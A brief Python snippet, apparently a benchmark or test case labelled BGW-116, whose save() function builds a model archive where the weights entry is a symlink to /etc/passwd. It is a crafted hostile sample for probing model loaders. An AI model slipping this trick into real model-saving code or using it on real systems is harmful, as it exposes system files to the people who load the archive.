"""In the model's archive the weights are a link to a file of the machine."""
# places: model
# bgw: BGW-116


def save(path):
    import zipfile

    honest().save(path)
    link = zipfile.ZipInfo("model.weights.h5")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", "{}")
        archive.writestr(link, "/etc/passwd")
